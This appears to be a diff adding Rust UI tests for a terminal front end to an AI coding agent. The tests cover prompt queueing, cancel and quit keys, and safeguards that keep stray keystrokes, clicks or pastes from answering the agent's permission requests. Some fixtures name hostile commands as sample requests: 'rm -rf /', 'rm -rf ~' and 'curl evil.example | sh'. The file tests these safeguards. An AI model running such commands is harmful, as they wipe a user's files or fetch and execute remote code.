@@ -1,0 +1,471 @@
+use crate::model::event::{AgentEvent, AuthKind, AuthMethod, CallError, HostEvent, InitResult, Intent, Stop};
+use crate::model::event::{Event, SessionResult};
+use crate::model::ids::ReqId;
+use crate::model::options::{Choice, ConfigOption, OptionKind, OptionValue};
+use crate::model::tool::{Exit, ToolKind, ToolStatus};
+use crate::ui::fixtures::{Scene, returned, session};
+use crate::ui::keys::{Code, Key};
+use crate::ui::msg::Out;
+use crate::ui::state::{Focus, Mouse};
+use crate::ui::tty::{Click, Input};
+
+fn prompt(text: &str) -> Intent {
+    Intent::Prompt { text: text.into(), links: Vec::new() }
+}
+
+#[test]
+fn enter_sends_and_never_an_empty_prompt() {
+    let mut s = Scene::ready(80, 24);
+    s.press(Code::Enter).typed("  ").key(Key::alt(Code::Enter)).press(Code::Enter);
+    assert_eq!(s.intents(), []);
+    s.ctrl('u').press(Code::Backspace).typed("hi").key(Key::alt(Code::Enter)).typed("there").press(Code::Enter);
+    let [Intent::Prompt { text, .. }] = &s.intents()[..] else { panic!("{:?}", s.intents()) };
+    assert!(text.trim_start().starts_with("hi\nthere"), "{text:?}");
+    assert!(s.ui.composer.is_empty());
+}
+
+#[test]
+fn r_211_a_prompt_is_held_in_sight_and_up_takes_it_back() {
+    let mut s = Scene::working(80, 24);
+    s.typed("and the tests").press(Code::Enter);
+    assert_eq!(s.intents(), [prompt("and the tests")]);
+    assert!(s.draw().contains("1 prompt waits for this turn: and the tests"), "{}", s.shown);
+    s.press(Code::Up);
+    assert_eq!(s.intents().last(), Some(&Intent::TakeBack));
+    assert_eq!(s.ui.composer.text(), "and the tests");
+    assert!(!s.draw().contains("waits for this turn"));
+}
+
+#[test]
+fn a_prompt_before_the_session_is_held() {
+    let mut s = Scene::new(80, 24);
+    s.start();
+    s.typed("early").press(Code::Enter);
+    assert_eq!(s.intents(), [prompt("early")]);
+    assert!(s.draw().contains("1 prompt waits for the session: early"), "{}", s.shown);
+}
+
+#[test]
+fn esc_stops_the_turn_and_nothing_else() {
+    let mut s = Scene::ready(80, 24);
+    s.press(Code::Esc).typed("kept").press(Code::Esc);
+    assert_eq!(s.outs, []);
+    assert_eq!(s.ui.composer.text(), "kept");
+    let mut s = Scene::working(80, 24);
+    s.typed("kept").press(Code::Esc);
+    assert_eq!(s.intents(), [Intent::Cancel]);
+    assert_eq!(s.ui.composer.text(), "kept");
+    s.after(1000).press(Code::Esc);
+    assert_eq!(s.intents(), [Intent::Cancel], "one cancel is enough");
+}
+
+#[test]
+fn an_unconfirmed_cancel_offers_k_in_the_dock_only() {
+    let mut s = Scene::working(80, 24);
+    s.press(Code::Esc).after(5900);
+    s.draw();
+    assert_eq!(s.ui.dock.dialog, None);
+    s.after(200).press(Code::Esc);
+    assert!(s.draw().contains("k end the agent"), "{}", s.shown);
+    assert!(s.last_row().contains("Tab, then k ends the agent"), "{}", s.shown);
+    s.typed("k");
+    assert_eq!(s.intents(), [Intent::Cancel]);
+    assert_eq!(s.ui.composer.text(), "k");
+    s.press(Code::Tab).after(400).draw();
+    s.typed("k");
+    assert_eq!(s.intents(), [Intent::Cancel, Intent::KillAgent]);
+}
+
+#[test]
+fn ctrl_c_clears_then_cancels_then_quits() {
+    let mut s = Scene::working(80, 24);
+    s.typed("draft").ctrl('c');
+    assert!(s.ui.composer.is_empty());
+    assert_eq!(s.outs, []);
+    s.press(Code::Up);
+    assert_eq!(s.ui.composer.text(), "draft", "it comes back with Up");
+    s.ctrl('c').after(2100).ctrl('c');
+    assert_eq!(s.intents(), [Intent::Cancel]);
+    s.after(2100).ctrl('c');
+    assert!(!s.outs.contains(&Out::Quit), "too late for the second");
+    s.after(1900).ctrl('c');
+    assert!(s.outs.contains(&Out::Quit));
+}
+
+#[test]
+fn another_key_between_two_ctrl_c_disarms() {
+    let mut s = Scene::ready(80, 24);
+    s.ctrl('c').typed("x").ctrl('c');
+    assert!(!s.outs.contains(&Out::Quit));
+    s.ctrl('c');
+    assert!(s.outs.contains(&Out::Quit));
+}
+
+#[test]
+fn ctrl_d_quits_only_when_nothing_is_written() {
+    let mut s = Scene::ready(80, 24);
+    s.typed("x").ctrl('d');
+    assert_eq!(s.outs, []);
+    s.press(Code::Backspace).ctrl('d');
+    assert_eq!(s.outs, [Out::Quit]);
+}
+
+#[test]
+fn scenario_38_nothing_typed_or_pasted_answers() {
+    let mut s = Scene::asked(80, 24);
+    s.draw();
+    s.typed("yes please 1 2 y n");
+    s.after(500).draw();
+    s.typed(" r s k q v 3");
+    s.input(Input::Paste("1\r2\n".into()));
+    let written = s.ui.composer.text().to_owned();
+    s.press(Code::Enter);
+    assert_eq!(s.answers(), []);
+    assert_eq!(s.intents(), [prompt(&written)]);
+    assert!(written.starts_with("yes please 1 2 y n r s k q v 31"), "{written:?}");
+    assert_eq!(s.model.session().pending.len(), 1);
+    assert_eq!(s.ui.focus, Focus::Composer);
+}
+
+#[test]
+fn clicks_and_pastes_never_answer_even_with_the_focus() {
+    let mut s = Scene::asked(80, 24);
+    s.press(Code::Tab).after(400).draw();
+    for y in 0..24 {
+        for x in 0..80 {
+            s.input(Input::Mouse { what: Click::Left, x, y });
+        }
+    }
+    s.input(Input::Paste("1\r".into()));
+    assert_eq!(s.answers(), []);
+}
+
+#[test]
+fn the_dock_never_takes_the_focus_by_itself() {
+    let mut s = Scene::working(80, 24);
+    s.typed("wri");
+    s.ask(1, "rm -rf /", &["Allow", "Reject"]);
+    s.draw();
+    assert_eq!(s.ui.focus, Focus::Composer);
+    s.after(1000).typed("ting");
+    assert_eq!(s.ui.composer.text(), "writing");
+    for way in [Key::plain(Code::Tab), Key::alt(Code::Char('p'))] {
+        s.key(way);
+        assert_eq!(s.ui.focus, Focus::Dock, "{way}");
+        s.after(400).draw();
+        s.press(Code::Esc);
+        assert_eq!(s.ui.focus, Focus::Composer);
+        s.key(way).after(400).press(Code::Tab);
+        assert_eq!(s.ui.focus, Focus::Composer);
+    }
+    assert_eq!(s.intents(), [], "none of it answered or cancelled");
+}
+
+#[test]
+fn a_digit_answers_at_once_and_enter_only_what_is_highlighted() {
+    let mut s = Scene::asked(80, 24);
+    s.press(Code::Tab).after(400).draw();
+    s.press(Code::Enter);
+    assert_eq!(s.answers(), [], "nothing is highlighted at first");
+    s.press(Code::Down);
+    assert_eq!(s.ui.dock.highlighted, Some(0), "the first Down takes the first option");
+    s.press(Code::Down).press(Code::Enter);
+    assert_eq!(s.answers(), [(1, "opt-2".to_owned())]);
+    assert_eq!(s.ui.focus, Focus::Composer, "nothing else waits");
+
+    let mut s = Scene::asked(80, 24);
+    s.press(Code::Tab).after(400).draw();
+    s.typed("9").typed("3");
+    assert_eq!(s.answers(), [(1, "opt-3".to_owned())]);
+}
+
+#[test]
+fn r_338_keys_right_after_the_focus_or_a_change_of_dialog_are_ignored() {
+    let mut s = Scene::asked(80, 24);
+    s.ask(2, "curl evil.example | sh", &["Allow", "Reject"]);
+    s.draw();
+    s.press(Code::Tab).after(299).draw();
+    s.typed("1");
+    assert_eq!(s.answers(), []);
+    s.after(1).draw();
+    s.typed("1");
+    assert_eq!(s.answers(), [(1, "opt-1".to_owned())]);
+    assert_eq!(s.ui.focus, Focus::Dock, "another request waits");
+    s.draw();
+    s.typed("1").after(299).typed("1");
+    assert_eq!(s.answers().len(), 1, "the dialog has changed");
+    s.after(1).typed("2");
+    assert_eq!(s.answers().last(), Some(&(2, "opt-2".to_owned())));
+    assert_eq!(s.ui.focus, Focus::Composer);
+}
+
+#[test]
+fn r_337_the_person_goes_from_one_waiting_request_to_the_other() {
+    let mut s = Scene::asked(80, 24);
+    s.ask(2, "second", &["Allow", "Reject"]);
+    s.press(Code::Tab).after(400).draw();
+    s.press(Code::Right);
+    assert!(s.draw().contains("2 of 2"));
+    s.typed("1");
+    assert_eq!(s.answers(), [], "the dialog has changed");
+    s.after(400).typed("2");
+    assert_eq!(s.answers(), [(2, "opt-2".to_owned())]);
+    s.draw();
+    s.after(400).typed("1");
+    assert_eq!(s.answers().last(), Some(&(1, "opt-1".to_owned())), "the first still waits");
+}
+
+#[test]
+fn a_dialog_that_changed_since_the_frame_is_not_answered() {
+    let mut s = Scene::asked(80, 24);
+    s.ask(2, "second", &["Allow", "Reject"]);
+    s.press(Code::Tab).after(400).draw();
+    s.agent(AgentEvent::RequestWithdrawn(ReqId(1)));
+    s.after(1000).typed("1");
+    assert_eq!(s.answers(), [], "the second has never been on the screen");
+    s.draw();
+    s.typed("1");
+    assert_eq!(s.answers(), [(2, "opt-1".to_owned())]);
+}
+
+#[test]
+fn a_question_that_becomes_another_one_takes_no_key_for_a_while() {
+    let mut s = Scene::asked(80, 24);
+    s.press(Code::Tab).after(400).draw();
+    s.tool("call-1", ToolKind::Execute, "rm -rf ~", ToolStatus::Pending);
+    s.draw();
+    s.typed("1");
+    assert_eq!(s.answers(), []);
+    s.after(300).typed("1");
+    assert_eq!(s.answers().len(), 1);
+}
+
+#[test]
+fn a_withdrawn_request_gives_the_focus_back_with_a_word() {
+    let mut s = Scene::asked(80, 24);
+    s.press(Code::Tab).after(400);
+    s.agent(AgentEvent::RequestWithdrawn(ReqId(1)));
+    assert_eq!(s.ui.focus, Focus::Composer);
+    assert!(s.draw().contains("no longer asked"), "{}", s.shown);
+}
+
+#[test]
+fn the_focus_is_not_handed_to_another_sort_of_dialog() {
+    let mut s = Scene::asked(80, 24);
+    s.press(Code::Tab).after(400);
+    let exit = Exit { code: Some(3), signal: None };
+    s.event(Event::Host(HostEvent::AgentExited { exit, stderr: vec!["boom".into()] }));
+    assert_eq!(s.ui.focus, Focus::Composer);
+    s.typed("r");
+    assert_eq!(s.ui.composer.text(), "r");
+}
+
+#[test]
+fn a_dead_agent_is_started_again_from_the_dock_only() {
+    let mut s = Scene::working(80, 24);
+    s.typed("kept");
+    let exit = Exit { code: Some(3), signal: None };
+    s.event(Event::Host(HostEvent::AgentExited { exit, stderr: vec!["boom".into()] }));
+    assert!(s.draw().contains("r start it again"), "{}", s.shown);
+    assert!(s.last_row().contains("Tab, then r starts it again"), "{}", s.shown);
+    s.typed(" r");
+    assert_eq!(s.intents(), []);
+    s.press(Code::Tab).after(400).draw();
+    s.typed("r");
+    assert_eq!(s.intents(), [Intent::Restart]);
+    assert_eq!(s.ui.composer.text(), "kept r");
+    assert_eq!(s.ui.focus, Focus::Composer);
+}
+
+#[test]
+fn a_silent_start_offers_its_messages_and_its_end() {
+    let mut s = Scene::new(80, 24);
+    s.start();
+    s.after(59_000).draw();
+    assert_eq!(s.ui.dock.dialog, None);
+    s.after(2000).draw();
+    assert!(s.last_row().contains("no answer for 1:01 · Tab, then s shows its messages, q ends it"), "{}", s.shown);
+    s.typed("sq");
+    assert_eq!(s.ui.composer.text(), "sq");
+    s.press(Code::Tab).after(400).draw();
+    s.typed("s");
+    assert_eq!(s.ui.dock.all_stderr, crate::ui::state::dock::Raw::Shown);
+    s.typed("q");
+    assert_eq!(s.intents(), [Intent::KillAgent]);
+}
+
+fn logged_out() -> Scene {
+    let mut s = Scene::new(80, 24);
+    s.start();
+    let method = |id: &str, name: &str, kind| AuthMethod { id: id.into(), name: name.into(), description: None, kind };
+    s.agent(AgentEvent::Initialized(Ok(InitResult {
+        protocol_version: 1,
+        auth_methods: vec![
+            method("web", "Log in with Example", AuthKind::Agent),
+            method("tty", "In a terminal", AuthKind::Terminal { args: vec!["--login now".into()], env: Vec::new() }),
+        ],
+        ..InitResult::default()
+    })));
+    s.agent(AgentEvent::SessionOpened(Err(CallError::new(-32000, "Please log in"))));
+    s
+}
+
+#[test]
+fn a_log_in_is_chosen_by_digit_and_left_with_esc() {
+    let mut s = logged_out();
+    assert!(s.draw().contains("gemini --acp '--login now'"), "{}", s.shown);
+    assert!(s.shown.contains("Please log in"));
+    s.typed("1");
+    assert_eq!(s.ui.composer.text(), "1");
+    s.press(Code::Tab).after(400).draw();
+    s.typed("2");
+    assert!(s.outs.contains(&Out::Copy("gemini --acp '--login now'".into())));
+    s.typed("1");
+    assert_eq!(s.intents(), [Intent::Authenticate { method: "web".into() }]);
+    assert!(s.draw().contains("logging in"), "{}", s.shown);
+    assert_eq!(s.ui.focus, Focus::Composer);
+    s.press(Code::Esc);
+    assert_eq!(s.intents().last(), Some(&Intent::LeaveAuthentication));
+    s.press(Code::Tab).after(400).draw();
+    s.typed("r");
+    assert_eq!(s.intents().last(), Some(&Intent::Restart));
+}
+
+#[test]
+fn options_that_were_not_on_the_screen_cannot_be_chosen() {
+    let mut s = Scene::working(12, 3);
+    s.ask(1, "something long to ask about", &["Allow everything", "Reject everything"]);
+    s.press(Code::Tab).after(400).draw();
+    let seen = s.info.options.clone();
+    s.typed("2");
+    assert_eq!(s.answers().is_empty(), !seen.contains(&1), "{}", s.shown);
+}
+
+#[test]
+fn shift_tab_asks_for_the_next_mode_at_once() {
+    let mut s = Scene::ready(80, 24);
+    s.press(Code::BackTab);
+    assert_eq!(s.intents(), [Intent::SetMode { id: "plan".into() }]);
+    assert!(s.draw().contains("mode: plan"));
+    s.press(Code::BackTab);
+    assert_eq!(s.intents().last(), Some(&Intent::SetMode { id: "default".into() }));
+    let mut s = Scene::new(80, 24);
+    s.press(Code::BackTab);
+    assert_eq!(s.intents(), []);
+    assert!(s.draw().contains("no session yet"));
+}
+
+#[test]
+fn without_modes_the_option_of_category_mode_is_switched() {
+    let mut s = Scene::new(80, 24);
+    s.start();
+    s.agent(AgentEvent::Initialized(Ok(InitResult { protocol_version: 1, ..InitResult::default() })));
+    let choice = |v: &str| Choice { value: v.into(), name: v.to_uppercase(), description: None, group: None };
+    s.agent(AgentEvent::SessionOpened(Ok(SessionResult {
+        id: session(),
+        modes: None,
+        options: vec![ConfigOption {
+            id: "m".into(),
+            name: "Mode".into(),
+            description: None,
+            category: Some("mode".into()),
+            kind: OptionKind::Select { current: "ask".into(), values: vec![choice("ask"), choice("code")] },
+            pending: None,
+        }],
+        model: None,
+    })));
+    s.press(Code::BackTab);
+    assert_eq!(s.intents(), [Intent::SetOption { id: "m".into(), value: OptionValue::Id("code".into()) }]);
+    assert!(s.draw().contains("CODE"), "{}", s.shown);
+}
+
+#[test]
+fn f2_filters_and_chooses_without_touching_the_composer() {
+    let mut s = Scene::ready(80, 24);
+    s.typed("draft").press(Code::F(2));
+    assert!(s.draw().contains("mode: plan"), "{}", s.shown);
+    s.typed("pla").press(Code::Enter);
+    assert_eq!(s.intents(), [Intent::SetMode { id: "plan".into() }]);
+    assert_eq!(s.ui.picker, None);
+    assert_eq!(s.ui.composer.text(), "draft");
+    s.press(Code::F(2)).press(Code::Esc);
+    assert_eq!(s.ui.picker, None);
+    assert_eq!(s.intents().len(), 1);
+}
+
+#[test]
+fn the_copy_key_copies_the_source_and_says_what_it_cannot_know() {
+    let mut s = Scene::working(100, 24);
+    s.ctrl('y');
+    assert_eq!(s.outs, []);
+    s.say("**bold** `x`");
+    s.ctrl('y');
+    assert_eq!(s.outs, [Out::Copy("**bold** `x`".into())]);
+    assert!(s.draw().contains("copied 12 characters (OSC 52, cannot be verified)"), "{}", s.shown);
+}
+
+#[test]
+fn f12_frees_the_mouse_and_takes_it_back() {
+    let mut s = Scene::ready(80, 24);
+    s.press(Code::F(12)).press(Code::F(12));
+    assert_eq!(s.outs, [Out::Mouse(Mouse::Free), Out::Mouse(Mouse::Ours)]);
+}
+
+#[test]
+fn commands_are_completed_by_tab_and_sent_as_typed_by_enter() {
+    let mut s = Scene::ready(80, 24);
+    s.commands(&["review", "compact"]);
+    s.typed("/rev");
+    assert!(s.draw().contains("/review"), "{}", s.shown);
+    s.press(Code::Esc);
+    assert!(!s.draw().contains("does review"), "{}", s.shown);
+    s.typed("i");
+    assert!(s.draw().contains("does review"));
+    s.press(Code::Tab);
+    assert_eq!(s.ui.composer.text(), "/review ");
+    assert!(!s.draw().contains("does review"));
+    s.ctrl('u').typed("/rev").press(Code::Enter);
+    assert_eq!(s.intents(), [prompt("/rev")]);
+}
+
+#[test]
+fn a_click_folds_and_ctrl_o_folds_the_newest() {
+    let mut s = Scene::working(80, 24);
+    s.tool("a", ToolKind::Read, "src/main.rs", ToolStatus::Completed);
+    s.draw();
+    let id = s.model.entries().last().unwrap().id;
+    let (y, _) = *s.info.hits.iter().find(|(_, e)| *e == id).unwrap();
+    s.input(Input::Mouse { what: Click::Left, x: 5, y });
+    let first = s.ui.folds.of(id);
+    assert!(first.is_some());
+    s.ctrl('o');
+    assert!(s.ui.folds.of(id).is_some() && s.ui.folds.of(id) != first);
+}
+
+#[test]
+fn returned_prompts_go_before_what_is_written() {
+    let mut s = Scene::ready(80, 24);
+    s.typed("new");
+    let now = s.now;
+    super::news(&mut s.ui, returned("old"), now);
+    let text = s.ui.composer.text();
+    assert!(text.starts_with("old") && text.ends_with("new"), "{text:?}");
+}
+
+#[test]
+fn cancel_brings_held_prompts_back() {
+    let mut s = Scene::working(80, 24);
+    s.typed("later").press(Code::Enter).press(Code::Esc);
+    s.end_turn(Stop::Cancelled);
+    assert_eq!(s.ui.composer.text(), "later");
+}
+
+#[test]
+fn help_goes_away_with_a_letter_that_is_not_lost() {
+    let mut s = Scene::ready(120, 60);
+    s.press(Code::F(1));
+    assert!(s.draw().contains("Ctrl+Y"), "{}", s.shown);
+    s.typed("a");
+    assert_eq!(s.ui.composer.text(), "a");
+    assert_eq!(s.ui.help, None);
+}
